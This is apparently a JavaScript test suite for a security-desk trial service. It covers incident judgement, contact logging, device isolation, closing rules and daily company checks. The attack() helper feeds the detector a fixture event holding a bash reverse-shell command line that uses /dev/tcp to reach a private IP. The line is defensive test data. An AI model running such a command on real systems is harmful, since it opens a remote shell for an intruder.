// timeout: 180
// The desk: a detection becomes an incident that a person judges, the company is called, the owner is told;
// day and night within the trial only, on-site visits on weekdays from nine (R-062, R-063, S-38), a look at
// every company each day, and the company's state in one word.
import assert from 'node:assert/strict';
import { join, resolve } from 'node:path';
import { after, before, test } from 'node:test';

import { until } from '../lib/client.mjs';
import { Centre, event } from '../wire/centre.mjs';
import { NOT_BUILT, Office, PROGRAM } from './company.mjs';

const TOP = resolve(new URL('../..', import.meta.url).pathname);
const skip = PROGRAM ? false : NOT_BUILT;
/** @type {Centre} */ let centre;
/** @type {Office} */ let office;
const trial = { state: 'trial', confirmed: '2025-06-20T10:00:00+09:00', approved: '2025-06-25T10:00:00+09:00',
	installed: '2025-07-01T10:00:00+09:00', participation: true };
let shop, owner, analyst, desk, secretariat, city;

before(async () => {
	if (skip) return;
	centre = new Centre({ program: PROGRAM, arguments: ['--rules', join(TOP, 'rules/sigma')] });
	centre.sample();
	await centre.start();
	office = new Office(centre);
	office.publish();
	office.clock('set 2025-07-19T02:00:00+09:00'); // a Saturday
	shop = office.company('夜の店');
	Object.assign(shop = { id: shop }, office.apply(shop.id, trial));
	owner = (await office.person('owner', { company: shop.id }, '店主')).client;
	[analyst, desk, secretariat, city] = (await Promise.all(['analyst', 'desk', 'secretariat', 'city'].map((role) => office.staff(role))))
		.map((person) => person.client);
});
after(() => centre?.done());

let attacks = 0;
async function attack() {
	attacks++;
	const known = (await analyst.ask('GET', '/v1/incidents')).items.map((one) => one.id);
	const sent = await shop.machine.batch([event({
		Image: '/usr/bin/bash', CommandLine: `bash -c "bash -i >& /dev/tcp/10.1.2.3/444${attacks} 0>&1"`,
		ProcessGuid: `{0000000${attacks}-1111-2222-3333-444444444444}`, ParentImage: '/usr/bin/bash', ProcessId: 4242,
	})]);
	assert.equal(sent.status, 200, sent.text);
	return until(20, async () => {
		const page = await analyst.ask('GET', '/v1/incidents');
		return page.items.find((one) => !known.includes(one.id)) ?? null;
	});
}

const show = (incident) => analyst.ask('GET', `/v1/incidents/${incident}`);
const code = async (answer) => (await answer).body.error?.code ?? null;

test('a company at rest is calm', { skip }, async () => {
	const token = await owner.ask('POST', '/v1/enrolment-tokens', { company: shop.id, user: '店主' });
	shop.machine = centre.enrol(token.secret);
	await analyst.ask('POST', '/v1/checks', { company: shop.id, outcome: 'calm' }); // today
	const home = await owner.ask('GET', '/v1/home');
	assert.equal(home.state, 'watch', JSON.stringify(home.reasons));
	assert.deepEqual(home.reasons, ['check_missing'], 'nobody looked on Friday (R-064)');
	assert.deepEqual(home.devices, { active: 1, offline: 0, isolated: 0, limit_users: 300, limit_devices_per_user: 5 });
	assert.deepEqual(home.trial, { from: '2025-07-01', to: '2025-09-30', days_left: 73 }); // T-47: three months
	assert.equal(home.desk.serves, true);
	assert.equal(home.desk.hours, '24時間365日');
	assert.match(home.desk.telephone, /^[0-9-]+$/);
	assert.equal(home.application.id, shop.application);
	assert.equal(home.last_check.slice(0, 10), '2025-07-18', 'two o\'clock on Saturday in Tokyo');
});

test('a detection on Saturday at two: judged at once, a visit from Tuesday nine, Monday being a holiday (S-38, R-062, R-063)', { skip }, async () => {
	const incident = (shop.incident = await attack()).id;
	const page = await show(incident);
	assert.equal(page.judgement, null, 'the centre judges nothing');
	assert.equal(page.desk_serves, true); // at night, on a Saturday
	assert.equal(page.onsite_from, '2025-07-22T00:00:00.000000Z'); // 09:00 in Tokyo
	assert.match(page.office.telephone, /^[0-9-]+$/);
	assert.deepEqual((await owner.ask('GET', '/v1/home')).reasons, ['incident_open', 'check_missing']);
});

test('only people of the desk judge, with a reason, and what they saw (R-061)', { skip }, async () => {
	const path = `/v1/incidents/${shop.incident.id}/judgement`, { version } = (await show(shop.incident.id)).incident;
	const judge = (who, body) => code(who.send('POST', path, { version, real: true, reason: '外部への接続', ...body }));
	assert.equal(await judge(owner), 'denied');
	assert.equal(await judge(secretariat), 'denied');
	assert.equal(await judge(desk, { reason: ' \n' }), 'reason_needed');
	assert.equal(await judge(desk, { version: version + 7 }), 'changed_meanwhile');
	assert.equal(await judge(desk), null);
	const page = await show(shop.incident.id);
	assert.deepEqual([page.judgement.real, page.judgement.reason, page.judgement.by.name], [true, '外部への接続', 'desk']);
	const home = await owner.ask('GET', '/v1/home');
	assert.equal(home.state, 'act');
	assert.deepEqual(home.reasons, ['incident_real', 'check_missing']);
});

test('calls are written down, also those that nobody took (R-066)', { skip }, async () => {
	const path = `/v1/incidents/${shop.incident.id}/contacts`;
	const call = (body) => desk.send('POST', path, { channel: 'telephone', person: '', reached: false, text: '応答なし', ...body });
	assert.equal((await call()).status, 201);
	assert.equal(await code(call({ consents: ['isolate'] })), 'nobody_agreed');
	assert.equal(await code(call({ reached: true })), 'empty');
	assert.equal(await code(call({ channel: 'pigeon' })), 'not_listed');
	const made = await call({ reached: true, person: '店主', text: '隔離してよいとのこと', consents: ['isolate', 'kill'] });
	assert.equal(made.status, 201, JSON.stringify(made.body));
	assert.deepEqual(made.body.consents, ['isolate', 'kill']);
	const page = await owner.ask('GET', `/v1/incidents/${shop.incident.id}`);
	assert.deepEqual(page.contacts.map((one) => [one.reached, one.person, one.by.name]), [[false, '', 'desk'], [true, '店主', 'desk']]);
	/* at once, whatever was said: nothing blocks the isolation */
	assert.equal((await analyst.send('POST', `/v1/incidents/${shop.incident.id}/actions`, { kind: 'isolate', reason: '拡大を防ぐ' })).status, 201);
});

test('closing needs a judgement and, for a real one, the story', { skip }, async () => {
	const id = shop.incident.id;
	const move = async (state, who = analyst) => who.send('PUT', `/v1/incidents/${id}/state`, { state, version: (await show(id)).incident.version });
	const tell = async (text) => desk.send('PUT', `/v1/incidents/${id}/story`, { text, version: (await show(id)).incident.version });
	assert.equal((await move('resolved')).status, 200);
	assert.equal(await code(move('closed')), 'incident_untold');
	assert.equal(await code(tell(' ')), 'empty');
	assert.equal((await tell('あ'.repeat(8000))).status, 200);
	assert.equal((await tell('外部から操作しようとした跡がありました。\n止めました。')).status, 200);
	assert.equal(await code(move('closed', owner)), 'denied');
	assert.equal((await move('closed')).status, 200);
	const page = await owner.ask('GET', `/v1/incidents/${id}`);
	assert.equal(page.story.text, '外部から操作しようとした跡がありました。\n止めました。');
	assert.equal(page.story.by.name, 'desk');
	const line = await owner.ask('GET', `/v1/incidents/${id}/timeline`);
	const stories = line.items.filter((one) => one.kind === 'story');
	assert.equal(stories.length, 2, 'the old one stays');
	assert.deepEqual(line.items.filter((one) => one.kind === 'judged').map((one) => [one.from, one.to]), [['unjudged', 'real']]);
	assert.deepEqual(line.items.filter((one) => one.kind === 'contact').map((one) => [one.from, one.to]), [['telephone', 'missed'], ['telephone', 'reached']]);
	assert.equal(await code(desk.send('POST', `/v1/incidents/${id}/judgement`, { version: page.incident.version, real: false, reason: 'x' })), 'changed_meanwhile');
	const trail = office.sql(`SELECT action FROM audit WHERE object = '${id}' AND result = 'done' ORDER BY number;`).flat();
	for (const action of ['incident_judge', 'incident_contact', 'incident_tell', 'incident_set_state'])
		assert.ok(trail.includes(action), action);
});

test('an incident that nobody has judged is not closed; a false positive is a judgement', { skip }, async () => {
	const { id } = await attack();
	const move = async (state, reason) => analyst.send('PUT', `/v1/incidents/${id}/state`, { state, version: (await show(id)).incident.version, ...(reason ? { reason } : {}) });
	assert.equal(await code(move('closed')), 'changed_meanwhile', 'no such step from new');
	assert.equal((await move('resolved')).status, 200);
	assert.equal(await code(move('closed')), 'incident_unjudged');
	assert.equal((await move('investigating')).status, 200);
	assert.equal((await move('false_positive', '点検の作業')).status, 200);
	assert.deepEqual((({ real, reason }) => [real, reason])((await show(id)).judgement), [false, '点検の作業']);
	assert.equal((await move('investigating')).status, 200);
	assert.equal((await show(id)).judgement, null);
	const { version } = (await show(id)).incident;
	assert.equal((await desk.send('POST', `/v1/incidents/${id}/judgement`, { version, real: false, reason: '点検だった' })).status, 200);
	assert.equal((await move('resolved')).status, 200);
	assert.equal((await move('closed')).status, 200, 'no story is needed');
});

// ---- every day (R-064) ----

test('a look at every company in its trial, each day', { skip }, async () => {
	const before = office.company('準備中の店'), over = office.company('終わった店'), utm = office.company('もう一軒');
	office.apply(before, { ...trial, state: 'preparing', installed: undefined });
	office.apply(over, { ...trial, installed: '2025-04-01T10:00:00+09:00' });
	office.apply(utm, { ...trial, installed: '2025-07-17T10:00:00+09:00' });
	const today = await desk.ask('GET', '/v1/checks');
	assert.equal(today.day, '2025-07-19');
	assert.deepEqual(today.items.map((row) => [row.company.id, row.checked?.outcome ?? null]).sort(),
		[[shop.id, 'calm'], [utm, null]].sort());
	assert.equal(today.missing, 1);
	const row = today.items.find((one) => one.company.id === shop.id);
	assert.ok(row.detections_new >= 2 && row.devices_silent === 0);
	assert.equal(row.participation, shop.participation);
	/* the same day again changes it, and the trail says so */
	const write = (body, who = desk) => who.send('POST', '/v1/checks', { company: shop.id, outcome: 'incident', note: '1件対応中', ...body });
	assert.equal((await write()).body.checked.outcome, 'incident');
	assert.deepEqual(office.sql(`SELECT reason FROM audit WHERE action = 'check_write' AND company = '${shop.id}' ORDER BY number;`).flat(),
		['calm', 'changed: calm () -> incident']);
	assert.equal(await code(write({}, secretariat)), 'denied');
	assert.equal(await code(write({ company: before })), 'desk_not_serving');
	assert.equal(await code(write({ company: over })), 'desk_not_serving');
	assert.equal(await code(write({ company: '01234567-89ab-7cde-8f01-23456789abcd' })), 'not_found');
	assert.equal(await code(write({ outcome: 'fine' })), 'not_listed');
	/* those who see no incidents and devices see no figures of them */
	const seen = (await city.ask('GET', '/v1/checks')).items.find((one) => one.company.id === shop.id);
	assert.deepEqual([seen.devices_silent, seen.detections_new, seen.incidents_open], [null, null, null]);
	assert.equal(seen.checked.outcome, 'incident');
	/* yesterday, and what is missing until then */
	assert.equal((await desk.ask('GET', '/v1/checks?day=2025-07-18')).missing, 2);
	assert.equal((await desk.ask('GET', '/v1/checks?day=2025-07-01')).items.length, 1, 'from the day of the installation');
	const missing = (await desk.ask('GET', '/v1/checks/missing?from=2025-06-25&to=2025-07-31')).items;
	assert.equal(missing.filter((one) => one.company.id === shop.id).length, 18, '1 to 18 July; today is not over');
	assert.deepEqual(missing.filter((one) => one.company.id === utm).map((one) => one.day), ['2025-07-17', '2025-07-18']);
	for (const query of ['from=2025-07-01', 'from=x&to=2025-07-01', 'from=2025-02-30&to=2025-07-01', 'from=2024-01-01&to=2025-07-01'])
		assert.ok((await desk.send('GET', `/v1/checks/missing?${query}`)).status >= 400, query);
	assert.equal((await desk.send('GET', '/v1/checks?day=2025-07-20')).status, 422, 'tomorrow');
});

test('the next day begins anew', { skip }, async () => {
	office.clock('set 2025-07-20T09:00:00+09:00');
	const day = await desk.ask('GET', '/v1/checks');
	assert.equal(day.missing, 2);
	const home = await owner.ask('GET', '/v1/home');
	assert.deepEqual(home.reasons, [], 'yesterday was looked at');
	assert.equal(home.state, 'calm');
});

test('after the trial the office\'s number is shown, and the company is grey (R-067)', { skip }, async () => {
	office.clock('set 2025-10-01T00:00:01+09:00');
	try {
		const home = await owner.ask('GET', '/v1/home');
		assert.equal(home.state, 'after', JSON.stringify(home.reasons));
		assert.equal(home.desk.serves, false);
		assert.notEqual(home.desk.hours, '24時間365日');
		assert.equal(home.trial.days_left, 0);
		assert.equal((await show(shop.incident.id)).desk_serves, false);
		assert.ok((await desk.ask('GET', '/v1/checks')).items.every((row) => row.company.id !== shop.id));
	} finally {
		office.clock('set 2025-09-30T23:00:00+09:00');
	}
	assert.equal((await owner.ask('GET', '/v1/home')).desk.serves, true, 'to the end of the last day');
});
